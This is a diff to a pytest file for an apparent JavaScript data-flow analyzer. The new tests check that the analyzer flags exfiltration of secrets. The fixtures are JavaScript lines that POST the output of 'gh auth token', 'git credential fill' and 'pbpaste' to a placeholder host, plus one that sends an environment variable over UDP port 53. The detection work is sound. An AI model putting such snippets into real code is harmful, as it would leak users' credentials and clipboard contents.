@@ -2,7 +2,7 @@
 
 import pytest
 
-from pratique.analysis.facts import Capability
+from pratique.analysis.facts import Capability, Taint
 from pratique.analysis.languages.javascript.targets import address, shown
 from tests.analysis.languages.javascript.reading import facts
 
@@ -109,3 +109,22 @@ def test_the_domain_behind_a_hole_is_the_address() -> None:
     assert "https://x.a.invalid/p" == address("https://${_}.x.a.invalid/p")
     assert address("https://api.${_}/x") is None
     assert shown("${_}/") is None
+
+
+@pytest.mark.parametrize(
+    ("source", "taints"),
+    [
+        ("cp.execSync('gh auth token')", {Taint.PROCESS, Taint.SECRETS}),
+        ("cp.spawnSync('git', ['credential', 'fill'])", {Taint.PROCESS, Taint.SECRETS}),
+        ("cp.execSync('pbpaste')", {Taint.PROCESS, Taint.CLIPBOARD}),
+        ("cp.execSync('git status')", {Taint.PROCESS}),
+    ],
+)
+def test_programs_that_print_what_they_keep(source: str, taints: set[Taint]) -> None:
+    found = facts(F + f"fetch('https://a.invalid', {{method: 'POST', body: {source}}})").flows
+    assert [taints] == [set(flow.taints) for flow in found]
+
+
+def test_a_datagram_goes_where_it_is_sent_and_not_to_the_sort_of_its_socket() -> None:
+    source = "const s = require('dgram').createSocket('udp4'); s.send(process.env.KEPT, 53, 'a.far.invalid')"
+    assert ["a.far.invalid"] == [flow.target for flow in facts(source).flows]
